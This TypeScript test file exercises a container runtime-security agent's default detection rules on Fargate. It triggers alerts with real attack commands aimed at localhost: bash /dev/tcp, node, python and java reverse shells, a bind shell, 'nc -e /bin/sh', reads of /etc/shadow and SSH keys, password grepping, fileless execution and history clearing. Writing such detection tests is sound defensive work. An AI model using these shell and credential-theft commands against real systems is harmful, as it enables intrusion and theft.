// The embedded default rule set (rules/default.yaml, loaded when no rules are
// configured) fired by the same kind of real programs as the stable rules,
// and quiet on ordinary ones. Also the debug view (SYSDIG_LOGGING=trace).
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { execa } from 'execa';
import { mkdirSync, readFileSync, rmSync, copyFileSync, chmodSync, writeFileSync } from 'node:fs';
import { connect, createServer } from 'node:net';
import { join } from 'node:path';
import { tmp, runForAlerts, namedBinary, instrument, testEnv, readAlerts } from '../../helpers.js';
import { shellCatcher } from './workloads.js';
import { useEcsMetadata, ECS_CONTAINER } from '../../fixtures/ecs-metadata.js';
import type { FalcoAlert } from '../../../src/model/alert.js';

const PY = '/usr/bin/python3';
const dir = tmp('default-');
const ecs = useEcsMetadata(test, () => rmSync(dir, { recursive: true, force: true }));

function run(argv: string[], env: Record<string, string> = {}) {
  return runForAlerts(argv, '', { ECS_CONTAINER_METADATA_URI_V4: ecs.uri, ...env });
}

function fired(alerts: FalcoAlert[], rule: string): FalcoAlert {
  const a = alerts.find((x) => x.rule === rule);
  assert.ok(a, `expected "${rule}", got ${JSON.stringify(alerts.map((x) => x.rule))}`);
  assert.is(a!.output_fields['container.id'], ECS_CONTAINER.DockerId.slice(0, 12));
  return a!;
}

const named = (name: string, target: string) => namedBinary(dir, name, target);


test('credential file read', async () => {
  const { alerts } = await run(['sh', '-c', 'cat /etc/shadow > /dev/null']);
  const a = fired(alerts, 'Fargate credential file read');
  assert.is(a.output_fields['fd.name'], '/etc/shadow');
  assert.is(a.output_fields['proc.pname'], 'sh');
});

test('private key read', async () => {
  const keydir = join(dir, '.ssh');
  mkdirSync(keydir, { recursive: true });
  writeFileSync(join(keydir, 'id_rsa'), 'x');
  const { alerts } = await run(['cat', join(keydir, 'id_rsa')]);
  fired(alerts, 'Fargate private key or cloud credential read');
});

test('shell started by a server process', async () => {
  const nginx = named('nginx', PY);
  const { alerts } = await run([nginx, '-c', 'import subprocess; subprocess.run(["sh", "-c", "id > /dev/null"])']);
  const a = fired(alerts, 'Fargate shell started by a server process');
  assert.is(a.output_fields['proc.pname'], 'nginx');
});

test('credential search', async () => {
  const { alerts } = await run(['grep', '-ri', 'password', dir]);
  fired(alerts, 'Fargate credential search');
});

test('link over a sensitive file', async () => {
  const { alerts } = await run(['ln', '-s', '/etc/shadow', join(dir, 'innocent')]);
  fired(alerts, 'Fargate link over a sensitive file');
});

test('packet socket', async () => {
  const { alerts } = await run([PY, '-c', 'import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW)']);
  fired(alerts, 'Fargate packet socket');
});

test('fileless execution', async () => {
  const script = 'import os; fd = os.memfd_create("x"); os.write(fd, open("/bin/true", "rb").read()); os.execv(f"/proc/self/fd/{fd}", ["x"])';
  const { alerts } = await run([PY, '-c', script]);
  fired(alerts, 'Fargate fileless execution');
});

test('execution from /dev/shm', async () => {
  const f = `/dev/shm/agent-default-${process.pid}`;
  copyFileSync('/bin/true', f);
  chmodSync(f, 0o755);
  try {
    const { alerts } = await run(['sh', '-c', f]);
    fired(alerts, 'Fargate execution from /dev/shm');
  } finally {
    rmSync(f, { force: true });
  }
});

test('ptrace attach to a process', async () => {
  // A process outside the workload: inside it every process is already ours to trace.
  const victim = execa('sleep', ['30']);
  try {
    const { alerts } = await run([PY, '-c', `import ctypes; ctypes.CDLL(None).ptrace(16, ${victim.pid}, 0, 0)`]);
    const a = fired(alerts, 'Fargate ptrace attach');
    assert.is(a.priority, 'Warning');
  } finally {
    victim.kill('SIGKILL');
    await victim.catch(() => undefined);
  }
});

test('log or history cleared', async () => {
  writeFileSync(join(dir, '.bash_history'), 'ls\n');
  const { alerts } = await run(['sh', '-c', `: > ${dir}/.bash_history`]);
  fired(alerts, 'Fargate log or history cleared');
});

test('stdio redirected to a network socket', async () => {
  const server = createServer((s) => s.resume());
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  const port = (server.address() as { port: number }).port;
  try {
    const { alerts } = await run([PY, '-c', `import socket, os; s = socket.create_connection(("127.0.0.1", ${port})); os.dup2(s.fileno(), 0)`]);
    const a = fired(alerts, 'Fargate stdio redirected to a network socket');
    assert.is(a.priority, 'Critical');
  } finally {
    server.close();
  }
});

test('netcat remote execution', async () => {
  const nc = named('nc', '/bin/true');
  const { alerts } = await run([nc, '-e', '/bin/sh', '127.0.0.1', '9']);
  fired(alerts, 'Fargate netcat remote execution');
});

test('cgroup release_agent write', async () => {
  const { alerts } = await run(['sh', '-c', `echo x > ${dir}/release_agent`]);
  fired(alerts, 'Fargate cgroup release_agent write');
});

test('kernel module load attempt', async () => {
  const { alerts } = await run([PY, '-c', 'import ctypes; ctypes.CDLL(None).syscall(313, -1, b"", 0)']);
  fired(alerts, 'Fargate kernel module load');
});

test('write below a binary directory', async () => {
  const f = `/usr/local/bin/agent-default-test-${process.pid}`;
  try {
    const { alerts } = await run(['sh', '-c', `echo x > ${f}`]);
    fired(alerts, 'Fargate write below binary directory');
  } finally {
    rmSync(f, { force: true });
  }
});

// ---- reverse and bind shells from application runtimes ----

const SHELL_RULE = 'Fargate shell started by a server process';
const STDIO_RULE = 'Fargate stdio redirected to a network socket';
/** Commands the attacker's listener sends; the answer proves the shell ran them. */
const TYPED = 'echo pwned-$((6*7)); exit\n';

async function reverseShell(argv: (port: number) => string[]) {
  const catcher = await shellCatcher(TYPED);
  try {
    const { alerts } = await run(argv(catcher.port));
    assert.match(await catcher.received, /pwned-42/);
    return alerts;
  } finally {
    catcher.close();
  }
}

test('reverse shell from a node server (child_process.exec of bash /dev/tcp)', async () => {
  const alerts = await reverseShell((port) => [
    process.execPath,
    '-e',
    `require('child_process').exec("bash -c 'bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1'", () => {})`,
  ]);
  assert.is(fired(alerts, SHELL_RULE).output_fields['proc.pname'], 'node');
  assert.is(fired(alerts, STDIO_RULE).output_fields['proc.name'], 'bash');
});

test('reverse shell from a node server (sh piped to a socket, no dup)', async () => {
  const alerts = await reverseShell((port) => [
    process.execPath,
    '-e',
    `const s = require('net').connect(${port}, '127.0.0.1', () => {
       const sh = require('child_process').spawn('/bin/sh', []);
       s.pipe(sh.stdin); sh.stdout.pipe(s); sh.stderr.pipe(s);
       sh.on('exit', () => s.end());
     });`,
  ]);
  const a = fired(alerts, SHELL_RULE);
  assert.is(a.output_fields['proc.cmdline'], 'sh');
  assert.is(a.output_fields['proc.pname'], 'node');
});

test('reverse shell from python (dup2 onto 0, 1, 2, then sh -i)', async () => {
  const alerts = await reverseShell((port) => [
    PY,
    '-c',
    `import os, socket, subprocess; s = socket.create_connection(("127.0.0.1", ${port})); [os.dup2(s.fileno(), f) for f in (0, 1, 2)]; subprocess.call(["/bin/sh", "-i"])`,
  ]);
  assert.is(fired(alerts, SHELL_RULE).output_fields['proc.cmdline'], 'sh -i');
  const stdio = alerts.filter((a) => a.rule === STDIO_RULE);
  assert.equal(stdio.map((a) => a.output_fields['evt.rawres']).sort(), [0, 1, 2]);
});

test('reverse shell from java (Runtime.exec of bash /dev/tcp)', async () => {
  const src = join(dir, 'java-rev');
  mkdirSync(src, { recursive: true });
  writeFileSync(
    join(src, 'Rev.java'),
    `public class Rev {
  public static void main(String[] a) throws Exception {
    Runtime.getRuntime().exec(new String[] {"bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/" + a[0] + " 0>&1"}).waitFor();
  }
}
`,
  );
  await execa('javac', ['-d', src, join(src, 'Rev.java')]);
  const alerts = await reverseShell((port) => ['java', '-cp', src, 'Rev', String(port)]);
  assert.is(fired(alerts, SHELL_RULE).output_fields['proc.pname'], 'java');
  fired(alerts, STDIO_RULE);
});

test('sh -i spawned by a server with its stdio on the accepted socket (bind shell)', async () => {
  const alertsFile = join(tmp('alerts-'), 'alerts.jsonl');
  const server = `import os, socket, sys
l = socket.socket(); l.bind(("127.0.0.1", 0)); l.listen(1)
print(l.getsockname()[1], flush=True)
c, _ = l.accept()
if os.fork() == 0:
    for f in (0, 1, 2): os.dup2(c.fileno(), f)
    os.execv("/bin/sh", ["sh", "-i"])
c.close(); os.wait()`;
  const child = instrument([PY, '-c', server], {
    env: testEnv({ SYSDIG_LOGGING: 'error', ECS_CONTAINER_METADATA_URI_V4: ecs.uri, SYSDIG_EXTRA_ARGS: `--alerts-file ${alertsFile}` }),
  });
  // the server prints its port once it listens
  const port = await new Promise<number>((resolve, reject) => {
    let out = '';
    child.stdout!.on('data', (d) => {
      out += d;
      if (out.includes('\n')) resolve(Number(out.trim()));
    });
    child.then(() => reject(new Error('the server exited before listening')), reject);
  });
  const got = await new Promise<string>((resolve, reject) => {
    let text = '';
    const s = connect(port, '127.0.0.1', () => s.write(TYPED));
    s.setEncoding('utf8');
    s.on('data', (d) => (text += d));
    s.on('close', () => resolve(text));
    s.on('error', reject);
  });
  assert.match(got, /pwned-42/);
  await child;
  const alerts = readAlerts(alertsFile);
  assert.is(fired(alerts, SHELL_RULE).output_fields['proc.cmdline'], 'sh -i');
  assert.is(fired(alerts, 'Fargate stdio on an accepted connection').output_fields['proc.name'], 'python3');
  assert.not.ok(alerts.some((a) => a.rule === STDIO_RULE), 'an accepted connection is not a reverse shell');
});

test('credential search typed into an interactive shell', async () => {
  writeFileSync(join(dir, 'app.conf'), 'db_password=hunter2\n');
  const { alerts } = await runForAlerts(['sh', '-i'], '', { ECS_CONTAINER_METADATA_URI_V4: ecs.uri }, { input: `grep -ri password ${dir} > /dev/null; exit\n` });
  assert.is(fired(alerts, 'Fargate credential search').output_fields['proc.pname'], 'sh');
});

test('credential search by a shell a server started', async () => {
  writeFileSync(join(dir, 'app.conf'), 'db_password=hunter2\n');
  const { alerts } = await run([
    process.execPath,
    '-e',
    `require('child_process').exec(${JSON.stringify(`cd ${dir} && grep -rl password . > /dev/null; echo done`)}, () => {})`,
  ]);
  const a = fired(alerts, 'Fargate credential search');
  assert.is(a.output_fields['proc.pname'], 'sh');
  assert.is(a.output_fields['proc.aname[2]'], 'node');
});

test('ordinary programs raise nothing', async () => {
  const work = join(dir, 'ordinary');
  mkdirSync(work, { recursive: true });
  writeFileSync(join(work, 'hello.c'), 'int main(void){return 0;}\n');
  for (const argv of [
    ['ls', '-la', '/'],
    [PY, '-c', 'import json, os; print(json.dumps(os.listdir("/")))'],
    ['sh', '-c', 'ls /usr/bin | grep -c a | sort | head -1'],
    ['tar', '-C', work, '-czf', join(dir, 'o.tgz'), '.'],
    [process.execPath, '-e', 'require("fs").readdirSync("/tmp")'],
    ['gcc', '-o', join(work, 'hello'), join(work, 'hello.c')],
  ]) {
    const { r, alerts } = await run(argv);
    assert.is(r.exitCode, 0, argv.join(' '));
    assert.equal(alerts.map((a) => a.rule), [], `${argv.join(' ')}: no alert`);
  }
});

test('debug view: one trace line per event with the fields the rules saw', async () => {
  const { r } = await run(['cat', '/etc/hostname'], { SYSDIG_LOGGING: 'trace' });
  const events = r.stderr
    .split('\n')
    .filter((l) => l.includes('"msg":"event"'))
    .map((l) => JSON.parse(l) as { type: string; fields: Record<string, unknown>; matched: string[] });
  const open = events.find((e) => e.type === 'openat' && e.fields['fd.name'] === '/etc/hostname');
  assert.ok(open, 'the open of /etc/hostname is in the trace');
  assert.is(open!.fields['proc.name'], 'cat');
  assert.is(open!.fields['evt.type'], 'openat');
  assert.is(open!.fields['evt.is_open_read'], true);
  assert.equal(open!.matched, []);
  assert.is(r.stdout, readFileSync('/etc/hostname', 'utf8').trimEnd(), 'the workload output is untouched');
});

test.run();
